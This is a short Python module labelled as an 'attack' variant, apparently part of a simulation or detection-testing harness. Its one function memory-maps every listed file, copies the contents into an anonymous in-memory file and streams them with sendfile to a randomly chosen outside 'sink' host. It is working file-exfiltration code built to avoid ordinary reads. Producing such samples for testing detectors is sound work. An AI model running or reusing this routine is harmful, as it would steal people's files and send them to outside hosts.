# SPDX-License-Identifier: GPL-3.0-or-later
"""Mapped, not read; sent with sendfile from a copy in memory."""
import mmap
import os
import random
import socket

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")


def product(world):
    fd = os.memfd_create("cache", 0)
    for path in world["files"]:
        with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as content:
            os.write(fd, content[:])
    size, at = os.fstat(fd).st_size, 0
    with socket.create_connection(random.Random(world["seed"]).choice(world["sinks"])) as sock:
        while at < size:
            at += os.sendfile(sock.fileno(), fd, at, 65536)
